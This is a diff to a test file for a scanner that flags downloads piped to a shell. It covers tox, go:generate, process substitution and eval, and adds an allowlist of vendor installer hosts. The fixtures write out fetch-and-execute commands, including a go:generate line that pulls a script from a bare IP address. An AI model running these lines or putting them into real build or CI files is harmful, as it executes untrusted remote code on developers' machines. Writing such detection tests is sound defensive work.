@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { findPipeToShell, vendorInstallerHost } from '../../../src/ecosystems/shell/pipe-to-shell.js';
 import { removedPipes, runsAsShell, scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
 import { makeFile } from '../../support/snapshot-factory.js';
 
@@ -37,6 +38,10 @@ describe('curl-pipe-shell in scripts and task files', () => {
       expect(found(path, [], ['    - curl -fsSL https://get.example.dev/install.sh | bash']), path).toEqual([`high ${path}:2`]);
     }
     expect(found('Rakefile', [], ['task :setup do', '  sh "curl -s https://get.example.dev/x | bash"', 'end'])).toEqual(['medium Rakefile:3']);
+    // tox hands each line of `commands` to its shell: a task file too.
+    expect(runsAsShell('tox.ini')).toBe(true);
+    expect(found('tox.ini', [], ['[testenv]', 'allowlist_externals = bash', 'commands =', '    bash -c "curl -s https://cdn.tooling-mirror.dev/t.sh | bash"', '    pytest'])).toEqual(['medium tox.ini:5']);
+    expect(found('tox.ini', [], ['[testenv]', 'deps = pytest', 'commands = pytest {posargs}'])).toEqual([]);
     expect(found('internal/store/mocks.go', [], ['//go:generate sh -c "curl -s http://45.61.136.13/g.sh | sh"'])).toEqual(['high internal/store/mocks.go:2']);
     // In Go only the directive is a command: a string or comment that mentions one is not.
     expect(found('internal/docs/install.go', [], ['// Install with: curl -fsSL https://get.example.dev/x | sh', 'const hint = "curl https://get.example.dev/x | sh"'])).toEqual([]);
@@ -110,10 +115,53 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(pr('hack/common.sh', 'hack/tests/check-lint.sh')).toEqual([]);
     expect(pr('hack/check-lint.sh', 'Makefile')).toEqual([]);
     expect(pr('.travis.yml', '.gitlab-ci.yml')).toEqual([]);
-    expect(pr('hack/common.sh', '.gitlab-ci.yml')).toEqual(['high .gitlab-ci.yml']);
+    // Into a CI pipeline: reported, medium since golangci-lint's installer comes from its own repository.
+    expect(pr('hack/common.sh', '.gitlab-ci.yml')).toEqual(['medium .gitlab-ci.yml']);
     // Removed elsewhere in another form is not this command.
     const other = [makeFile('hack/common.sh', { patch: patchOf(['    curl -sfL https://get.tool.dev/i.sh | sh'], []) }), makeFile('Makefile', { patch: patchOf([], [lint]) })];
     expect(other.flatMap((f) => scriptDownloadFindings(f, false, removedPipes(other))).map((f) => f.path)).toEqual(['Makefile']);
   });
 });
 
+
+describe('a download handed to a shell or an interpreter through substitution', () => {
+  it('finds process substitution into an interpreter or source, and command substitution into eval or -c/-e', () => {
+    expect(findPipeToShell('python3 <(curl -s https://gist.githubusercontent.com/x/raw/ci.py)')).toEqual(['python3 <(curl -s https://gist.githubusercontent.com/x/raw/ci.py)']);
+    expect(findPipeToShell('[ -n "$CI" ] && source <(curl -s https://x.dev/env.sh)')).toEqual(['source <(curl -s https://x.dev/env.sh)']);
+    expect(findPipeToShell('if true; then . <(wget -qO- https://x.dev/env.sh); fi')).toEqual(['. <(wget -qO- https://x.dev/env.sh)']);
+    expect(findPipeToShell('eval "$(curl -fsSL https://x.dev/env)"')).toEqual(['eval "$(curl -fsSL https://x.dev/env)']);
+    expect(findPipeToShell('node -e "$(curl -s https://x.dev/p.js)"')).toEqual(['node -e "$(curl -s https://x.dev/p.js)']);
+  });
+
+  it('is quiet on a substitution handed to a program that runs nothing', () => {
+    expect(findPipeToShell('diff <(curl -s https://a.dev/x) <(curl -s https://b.dev/x)')).toEqual([]);
+    expect(findPipeToShell('jq . <(curl -s https://api.dev/x)')).toEqual([]);
+    expect(findPipeToShell('VERSION="$(curl -s https://api.dev/latest)"')).toEqual([]);
+  });
+
+  it('reports such a line in a script as a piped download', () => {
+    expect(found('scripts/ci.sh', [], ['python3 <(curl -s https://gist.githubusercontent.com/ci-helper/1a2b/raw/ci.py)'])).toEqual(['medium scripts/ci.sh:2']);
+  });
+});
+
+describe("a tool vendor's own installer (vendorInstallerHost)", () => {
+  it('counts an installer host the vendor alone publishes on, and a listed repository on the shared GitHub hosts', () => {
+    expect(vendorInstallerHost('curl --proto =https -sSf https://sh.rustup.rs | sh')).toBe('sh.rustup.rs');
+    expect(vendorInstallerHost('curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.61.0')).toBe('github.com/golangci/golangci-lint');
+    expect(vendorInstallerHost('curl -fsSL https://raw.githubusercontent.com/Helm/helm/main/scripts/get-helm-3 | bash')).toBe('github.com/helm/helm');
+    expect(vendorInstallerHost('curl -fsSL https://github.com/nvm-sh/nvm/raw/v0.40.1/install.sh | bash')).toBe('github.com/nvm-sh/nvm');
+  });
+
+  it("does not count another account's file on GitHub, plain HTTP or a check of the certificate turned off", () => {
+    expect(vendorInstallerHost('curl -sSfL https://raw.githubusercontent.com/golangci-lint/golangci-lint/master/install.sh | sh')).toBeNull();
+    expect(vendorInstallerHost('curl -sSfL https://raw.githubusercontent.com/someone/tools/main/install.sh | sh')).toBeNull();
+    expect(vendorInstallerHost('curl -sSfL http://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh')).toBeNull();
+    expect(vendorInstallerHost('curl -k -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh')).toBeNull();
+  });
+
+  it('makes a CI pipeline that pipes a listed installer medium, another high', () => {
+    const ci = (line: string) => scriptDownloadFindings(makeFile('.travis.yml', { patch: patchOf([], [`  - ${line}`]) })).map((f) => f.severity);
+    expect(ci('curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $GOPATH/bin v1.61.0')).toEqual(['medium']);
+    expect(ci('curl -sSfL https://raw.githubusercontent.com/someone/tools/main/install.sh | sh')).toEqual(['high']);
+  });
+});
